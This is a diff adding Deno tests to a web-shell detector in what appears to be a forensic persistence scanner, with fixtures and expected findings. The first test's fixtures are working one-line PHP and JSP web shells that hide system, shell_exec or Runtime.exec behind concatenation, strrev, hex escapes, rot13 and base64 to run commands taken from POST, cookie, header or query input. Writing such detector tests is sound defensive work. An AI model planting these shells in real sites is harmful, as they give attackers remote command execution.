@@ -208,3 +208,39 @@ Deno.test("persistence web shells: the walk is bounded and says where it stopped
   assert.deepEqual(r.warnings.map((w) => w.code), ["truncated"]);
   assert.match(r.warnings[0].detail!, /deeper than 12/);
 });
+
+Deno.test("persistence web shells: a runner's name built from constants and called through a variable fires", async () => {
+  using root = makeTree(withAccounts({
+    "var/www/html/health.php": "<?php $f='sys'.'tem'; $f($_POST['x']); ?>",
+    "var/www/html/c.php": "<?php $a=strrev('metsys'); $a($_COOKIE['c']); ?>",
+    "var/www/html/h.php": '<?php $k = "\\x73\\x68\\x65\\x6c\\x6c_\\x65\\x78\\x65\\x63"; echo $k("id");',
+    "var/www/html/r.php": "<?php $q = str_rot13('flfgrz'); call_user_func($q, getallheaders()['X']);",
+    "var/www/html/b.php": "<?php $z = base64_decode('c3lzdGVt'); $z ( 'uptime' );",
+    "var/lib/tomcat9/webapps/ROOT/h.jsp": '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.equal(r.status, "ok", r.reason);
+  assert.deepEqual(summary(r.findings), [
+    "critical persistence.webshell.exec_request /var/lib/tomcat9/webapps/ROOT/h.jsp",
+    "critical persistence.webshell.exec_request /var/www/html/c.php",
+    "critical persistence.webshell.exec_request /var/www/html/health.php",
+    "critical persistence.webshell.exec_request /var/www/html/r.php",
+    "high persistence.webshell.obfuscated_eval /var/www/html/b.php",
+    "high persistence.webshell.obfuscated_eval /var/www/html/h.php",
+  ]);
+  const c = r.findings.find((f) => String(f.metadata.path).endsWith("/c.php"))!;
+  assert.deepEqual(c.metadata.patterns, ["php_runner_through_variable"]);
+});
+
+Deno.test("persistence web shells: plain names through variables, callbacks and strings that only look built stay quiet", async () => {
+  using root = makeTree(withAccounts({
+    // phpinfo-style pages keep a plain name in a variable and call it with their own argument
+    "var/www/html/info.php": "<?php $fn = 'shell_exec'; if (function_exists($fn)) echo $fn('uname -a');",
+    "var/www/html/i18n.php": "<?php $t = 'trans'.'late'; $t($_GET['msg']); $s = strrev('olleh'); echo $s;",
+    "var/www/html/cb.php": "<?php $cb = 'str' . 'toupper'; echo $cb($_GET['name']);",
+    "var/www/html/cmp.php": "<?php if ($mode == 'sys'.'tem') { log_it($mode); }",
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(summary(r.findings), []);
+  assert.deepEqual(r.warnings, []);
+});
